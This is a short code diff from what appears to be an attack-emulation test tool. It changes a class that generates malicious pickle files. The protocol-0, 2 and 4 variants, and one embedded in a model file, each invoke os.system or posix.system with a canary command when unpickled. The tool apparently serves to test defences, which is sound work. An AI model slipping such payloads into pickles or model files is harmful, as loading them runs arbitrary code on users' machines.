@@ -6,7 +6,7 @@ from pathlib import Path
 from typing import ClassVar
 
 from caponier.emulate.file_emulation import PICKLE_EMBEDDING, command, write_all
-from caponier.emulate.pickle_stream import PROTO_4, called, ended, named, text
+from caponier.emulate.pickle_stream import PROTO_4, called, ended, line, named, text
 from caponier.matrix.technique import TechniqueId
 
 
@@ -24,7 +24,12 @@ class PlainPickleAttack:
         order = command(canary)
         stack_global = text("os") + text("system") + pickle.STACK_GLOBAL
         contents = {
-            "protocol-0.pkl": f"cos\nsystem\n(V{order}\ntR.".encode(),
+            "protocol-0.pkl": named("os", "system")
+            + pickle.MARK
+            + line(order)
+            + pickle.TUPLE
+            + pickle.REDUCE
+            + pickle.STOP,
             "protocol-2.pkl": ended(called(named("posix", "system"), text(order))),
             "protocol-4.pkl": ended(called(stack_global, text(order)), proto=PROTO_4),
             "in-a-model.pkl": ended(
